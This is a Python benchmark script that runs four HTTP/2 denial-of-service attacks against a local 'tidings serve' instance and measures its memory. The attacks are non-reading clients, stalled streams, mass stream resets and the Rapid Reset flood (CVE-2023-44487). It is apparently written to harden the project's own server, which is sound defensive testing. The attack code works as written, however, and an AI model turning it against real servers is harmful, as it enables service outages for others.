"""HTTP/2 abuse against `tidings serve`: its resident memory before and after (issue #16).

Each attack runs against a fresh `tidings serve` (cleartext HTTP/2, prior knowledge)
from one client process, and the service's RSS is read from /proc before the attack,
at its peak while it runs, and once it is over:

- nonreading: one connection with a 4 kB receive buffer and a 2 GiB window asks for
  /openapi.json in waves of 50 and never reads the answers;
- stalled: three rounds of 100 connections, each opening 100 push streams with 400
  bytes of body that it never finishes, all held open;
- reset: 10 connections each open 100 push streams, send 600 bytes of body (as the
  window allows) and reset them, round after round;
- rapid: one connection sends HEADERS+RST_STREAM pairs (CVE-2023-44487).

    python bench/h2_abuse_rss.py [--src DIR ...] [--seconds 6]

The service runs with a request_timeout of 2 s (default 30 s) so that the deadlines
act within a run. `--src` names a source tree to run (`src` of a checkout; repeat it
to compare, e.g. main's and a branch's); the default is this checkout's.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.settings

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "bench"))

from benchkit import free_port, start_tidings, wait_healthy  # noqa: E402


def rss_mb(pid: int) -> float:
    """Resident memory of `pid`, in MB."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


class Client:
    """A blocking HTTP/2 client that reads only when asked."""

    def __init__(self, port: int, *, receive_buffer: int | None = None, window: int = 0) -> None:
        self.sock = socket.socket()
        if receive_buffer is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.sock.connect(("127.0.0.1", port))
        self.sock.settimeout(0.5)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.conn = h2.connection.H2Connection(config)
        if window:
            code = h2.settings.SettingCodes.INITIAL_WINDOW_SIZE
            self.conn.local_settings = h2.settings.Settings(
                client=True, initial_values={code: window}
            )
        self.conn.initiate_connection()
        if window:
            self.conn.increment_flow_control_window(2**30)
        # The server's limit only counts once its SETTINGS are read: attackers ignore it.
        self.conn.remote_settings = h2.settings.Settings(
            client=False, initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 2**31}
        )
        self.closed = False
        self.calm = False
        self.send()

    def request(self, method: str, path: str, *, end_stream: bool = True) -> int:
        stream_id = self.conn.get_next_available_stream_id()
        headers = [(":method", method), (":scheme", "http"), (":authority", "127.0.0.1")]
        self.conn.send_headers(stream_id, [*headers, (":path", path)], end_stream=end_stream)
        return stream_id

    def send(self) -> bool:
        """Send what is pending; False once the server has closed or stopped reading."""
        data = self.conn.data_to_send()
        try:
            self.sock.sendall(data)
        except (TimeoutError, OSError):
            self.closed = True
            return False
        return True

    def drain_events(self) -> None:
        """Read what has arrived (without waiting) and note a GOAWAY."""
        self.sock.setblocking(False)
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    return
                for event in self.conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        self.closed = True
                        calm = h2.errors.ErrorCodes.ENHANCE_YOUR_CALM
                        self.calm = self.calm or event.error_code == calm
        except (BlockingIOError, InterruptedError):
            pass
        except (OSError, h2.exceptions.ProtocolError):
            self.closed = True
        finally:
            self.sock.settimeout(0.5)

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def nonreading(port: int, seconds: float, sample: Callable[[], None]) -> str:
    client = Client(port, receive_buffer=4096, window=2**31 - 1)
    deadline = time.monotonic() + seconds
    waves = 0
    while time.monotonic() < deadline and not client.closed:
        for _ in range(50):
            client.request("GET", "/openapi.json")
        if client.send():
            waves += 1
        time.sleep(0.1)  # let a wave be answered: fewer than 100 streams at a time
        sample()
    client.close()
    return f"{waves} waves of 50 requests sent" + (", then cut off" if client.closed else "")


def stalled(port: int, seconds: float, sample: Callable[[], None]) -> str:
    clients: list[Client] = []
    rounds = 3
    for _ in range(rounds):  # each round holds 100 more connections of stalled streams
        for _ in range(100):
            client = Client(port)
            ids = [client.request("POST", "/push/x", end_stream=False) for _ in range(100)]
            for stream_id in ids:
                client.conn.send_data(stream_id, b"x" * 400)
            client.send()
            clients.append(client)
        end = time.monotonic() + seconds / rounds
        while time.monotonic() < end:
            for client in clients:
                client.drain_events()
            sample()
            time.sleep(0.2)
    for client in clients:
        client.close()
    return f"{rounds} rounds of 100 connections x 100 streams left unfinished"


def reset(port: int, seconds: float, sample: Callable[[], None]) -> str:
    clients = [Client(port) for _ in range(10)]
    deadline = time.monotonic() + seconds
    rounds = 0
    while time.monotonic() < deadline and any(not c.closed for c in clients):
        for client in clients:
            if client.closed:
                continue
            ids = [client.request("POST", "/push/x", end_stream=False) for _ in range(100)]
            for stream_id in ids:
                room = min(600, client.conn.local_flow_control_window(stream_id))
                if room > 0:
                    client.conn.send_data(stream_id, b"x" * room)
            client.send()
            for stream_id in ids:
                client.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
            client.send()
            client.drain_events()
        rounds += 1
        sample()
    calm = sum(client.calm for client in clients)
    for client in clients:
        client.close()
    ending = f", {calm} connections sent away (ENHANCE_YOUR_CALM)" if calm else ""
    return f"{rounds} rounds of 10 x 100 streams opened and reset{ending}"


def rapid(port: int, seconds: float, sample: Callable[[], None]) -> str:
    client = Client(port)
    deadline = time.monotonic() + seconds
    pairs = 0
    while time.monotonic() < deadline and not client.closed:
        for _ in range(500):
            stream_id = client.request("GET", "/health")
            client.conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
        if client.send():
            pairs += 500
        client.drain_events()
        sample()
    client.close()
    ending = ", then GOAWAY ENHANCE_YOUR_CALM" if client.calm else ""
    return f"{pairs} HEADERS+RST_STREAM pairs sent{ending}"


REQUEST_TIMEOUT = 2.0  # the service's request_timeout (default 30 s): stalls end within a run

ATTACKS = {"nonreading": nonreading, "stalled": stalled, "reset": reset, "rapid": rapid}


def run(src: str, name: str, seconds: float) -> tuple[float, float, float, str]:
    port = free_port()
    env = dict(os.environ, PYTHONPATH=src, TIDINGS_REQUEST_TIMEOUT=str(REQUEST_TIMEOUT))
    with tempfile.TemporaryDirectory() as data:
        process = start_tidings(
            port,
            Path(data) / "tidings.db",
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            wait_healthy(port, process)
            time.sleep(0.5)
            before = rss_mb(process.pid)
            peak = before

            def sample() -> None:
                nonlocal peak
                peak = max(peak, rss_mb(process.pid))

            note = ATTACKS[name](port, seconds, sample)
            time.sleep(1.0)
            sample()
            after = rss_mb(process.pid)
        finally:
            process.terminate()
            process.wait(10)
    return before, peak, after, note


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--src", action="append", help="source tree(s) to run")
    parser.add_argument("--seconds", type=float, default=6.0, help="length of each attack")
    parser.add_argument("--attack", action="append", choices=sorted(ATTACKS))
    args = parser.parse_args()
    print("| source | attack | RSS before (MB) | peak (MB) | after (MB) | what happened |")
    print("|---|---|---:|---:|---:|---|")
    for src in args.src or [str(REPO / "src")]:
        for name in args.attack or list(ATTACKS):
            before, peak, after, note = run(src, name, args.seconds)
            print(f"| {src} | {name} | {before:.0f} | {peak:.0f} | {after:.0f} | {note} |")


if __name__ == "__main__":
    main()
